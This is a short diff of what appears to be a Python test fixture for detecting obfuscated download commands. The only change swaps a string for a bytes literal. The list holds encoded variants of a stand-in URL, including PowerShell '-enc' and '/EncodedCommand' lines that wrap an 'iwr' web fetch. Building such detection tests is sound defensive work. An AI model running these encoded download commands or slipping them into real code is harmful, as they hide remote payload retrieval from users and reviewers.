@@ -72,7 +72,7 @@ ENCODED_COMMAND = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")
         f"[{','.join(map(hex, b'https://x.example/a'))}]",
         f"'{b'https://x.example/a'.hex()}'",
         f"'{base64.b64encode(base64.b64encode(b'https://x.example/a')).decode()}'",
-        f"'{base64.urlsafe_b64encode('?>~ https://x.example/a'.encode()).decode().rstrip('=')}'",
+        f"'{base64.urlsafe_b64encode(b'?>~ https://x.example/a').decode().rstrip('=')}'",
         f"'{base64.encodebytes(b'https://x.example/a' * 9).decode()}'".replace("\n", "\\n"),
         f"powershell -nop -enc {ENCODED_COMMAND}",
         f"pwsh /EncodedCommand '{ENCODED_COMMAND}'",
